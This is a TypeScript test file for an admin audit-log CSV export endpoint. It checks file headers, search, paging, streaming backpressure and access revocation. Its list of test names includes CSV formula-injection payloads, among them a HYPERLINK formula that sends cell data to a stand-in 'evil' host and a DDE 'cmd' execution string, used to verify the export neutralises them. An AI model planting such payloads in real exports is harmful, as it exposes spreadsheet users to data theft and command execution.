import { connect as connectSocket, type AddressInfo } from 'node:net';
import { sql } from 'kysely';
import { beforeAll, describe, expect, test } from 'vitest';
import { makeClan } from '#server/testing/communities.ts';
import { makeUser, type Json, type Person } from '#server/testing/users.ts';
import { useTestWorld } from '#server/testing/test-app.ts';

const world = useTestWorld();
let admin: Person;

beforeAll(async () => {
  admin = await makeUser(world, { role: 'admin', name: 'an-admin' });
});

/** See RFC 4180. */
function parse(file: string): string[][] {
  const records: string[][] = [[]];
  let rest = file;
  while (rest !== '') {
    const found = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
    if (found === null) throw new Error(`no CSV: ${rest.slice(0, 100)}`);
    const [full, inQuotes, plain = '', end] = found;
    records.at(-1)?.push(inQuotes?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') records.push([]);
    rest = rest.slice(full.length);
  }
  return records.slice(0, -1);
}

async function file(query = '') {
  const { status, body, headers } = await admin.ask('GET', `/api/admin/audit.csv${query}`);
  expect(status).toBe(200);
  const [heading = [], ...lines] = parse(body);
  const rows = lines.map((cells) =>
    Object.fromEntries(heading.map((name, at) => [name, cells[at]])),
  );
  return { heading, rows, headers, text: String(body) };
}

async function fillLog(acts: number, words: number): Promise<void> {
  await sql`insert into audit_log (id, at, actor_id, action, subject_type, subject_id, before, after)
    select gen_random_uuid(), now() - n * interval '1 minute', ${admin.id}::uuid, 'clan.update', 'clan',
      gen_random_uuid(), null, jsonb_build_object('description', repeat('long ', ${words}::int) || n)
    from generate_series(1, ${acts}::int) n`.execute(world.db);
}

describe('GET /api/admin/audit.csv', () => {
  test('is a file named after the current day, with a header and a line for each entry of the list', async () => {
    const { heading, rows, headers, text } = await file();
    const day = world.deps.clock().toISOString().slice(0, 10);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="audit-${day}.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    const fields = 'id,at,actorId,actorName,action,subjectType,subjectId,subjectName,before,after';
    expect(heading.join()).toBe(fields);
    expect(text.endsWith('\r\n')).toBe(true);
    const entries = (await admin.ask('GET', '/api/admin/audit?limit=200')).body;
    expect(rows).toEqual(
      entries.map(({ undo: _undo, why: _why, ...row }: Json) => ({
        ...row,
        subjectName: row.subjectName ?? '',
        before: row.before === null ? '' : JSON.stringify(row.before),
        after: row.after === null ? '' : JSON.stringify(row.after),
      })),
    );
  });

  test('contains the entries that a search matches', async () => {
    await makeClan(world, { name: 'Only this one' });
    const { rows } = await file('?q=only%20this');
    expect(rows).toMatchObject([{ action: 'clan.create', subjectName: 'Only this one' }]);
    expect((await file('?q=nothing-has-this')).rows).toEqual([]);
  });

  const names = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+1)*cmd',
    '＝1+1',
    '"=1+1',
    "'=1+1",
    '\u200b=1+1',
    'a";\r\n=1+1',
    'comma, "quote"; semicolon',
    'Ångström 日本語 🎯',
  ];

  test.each(names)(
    'a user and a clan called %j cannot start a formula or a new line',
    async (name) => {
      const leader = await makeUser(world);
      const clan = await makeClan(world, { leader });
      await world.db
        .updateTable('users')
        .set({ username: name })
        .where('id', '=', leader.id)
        .execute();
      await world.db
        .updateTable('clans')
        .set({ name: name.slice(0, 50) })
        .where('id', '=', clan.id)
        .execute();
      await leader.ask('PATCH', '/api/profile', { ign: name.replace(/[\r\n]+/g, ' ') });
      const { text } = await file(`?q=${leader.id}`);
      const records = parse(text);
      expect(new Set(records.map((cells) => cells.length))).toEqual(new Set([10]));
      const cells = records.flat();
      expect(
        cells.filter(
          (cell) => /^[\s"'\u200b]*[=+\-@＝＋－＠]/u.test(cell) && !cell.startsWith("'"),
        ),
      ).toEqual([]);
      expect(cells.filter((cell) => /^[\t\r\n]/.test(cell))).toEqual([]);
      const without = (value: string) => value.replaceAll("'", '');
      expect(cells.map(without)).toContain(without(name));
      // This parses like a program with the semicolon as separator.
      const others = text.split(/[;\r\n]+/);
      expect(others.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    },
  );

  test('is complete and in order, even if it is long and read a thousand entries at a time', async () => {
    await fillLog(2500, 40);
    world.statements.length = 0;
    const { rows } = await file('?q=long%20long');
    expect(rows).toHaveLength(2500);
    // The statements read the session, three pages of the log, and the account again before the second and third.
    expect(world.statements).toHaveLength(6);
    const times = rows.map(({ at }) => at ?? '');
    expect(times).toEqual(times.toSorted().toReversed());
    expect(new Set(rows.map(({ id }) => id)).size).toBe(2500);
  });

  test('responds to HEAD without writing the file', async () => {
    world.statements.length = 0;
    const answer = await world.app.inject({
      method: 'HEAD',
      url: '/api/admin/audit.csv?q=long%20long',
      cookies: { hotdrop_session: admin.token },
    });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(world.statements).toHaveLength(2);
  });

  test('is read only as fast as the client reads it and only while the client may read it, and stops when the client disconnects', async () => {
    await fillLog(15_000, 300);
    await world.app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = world.app.server.address() as AddressInfo;
    world.statements.length = 0;
    const socket = connectSocket(port, '127.0.0.1');
    const first = new Promise<void>((resolve) => socket.once('data', () => resolve()));
    socket.write(
      `GET /api/admin/audit.csv HTTP/1.1\r\nhost: localhost:3000\r\ncookie: hotdrop_session=${admin.token}\r\n\r\n`,
    );
    await first;
    // From here on nobody reads the response, and the socket buffers fill up.
    socket.pause();
    const settled = await whenStill(() => world.statements.length);
    expect(settled).toBeLessThan(8);
    socket.destroy();
    await whenStill(() => world.statements.length);
    const full = await file('?q=an-admin');
    expect(full.rows.length).toBeGreaterThan(15_000);

    const other = await makeUser(world, { role: 'admin' });
    const reading = connectSocket(port, '127.0.0.1');
    const started = new Promise<void>((resolve) => reading.once('data', () => resolve()));
    let position = 0;
    reading.on('data', (part) => (position += part.length));
    reading.write(
      `GET /api/admin/audit.csv HTTP/1.1\r\nhost: localhost:3000\r\ncookie: hotdrop_session=${other.token}\r\n\r\n`,
    );
    await started;
    reading.pause();
    await whenStill(() => world.statements.length);
    await world.db.updateTable('users').set({ banned: true }).where('id', '=', other.id).execute();
    const ended = new Promise<void>((resolve) => reading.once('close', () => resolve()));
    reading.on('error', () => undefined);
    reading.resume();
    await ended;
    expect(position).toBeLessThan(full.text.length);
  });
});

/** Resolves with a count that did not grow while the app handled a hundred other requests. */
async function whenStill(count: () => number): Promise<number> {
  for (;;) {
    const before = count();
    for (let n = 0; n < 100; n += 1) await world.app.inject('/healthz');
    if (count() === before) return before;
  }
}
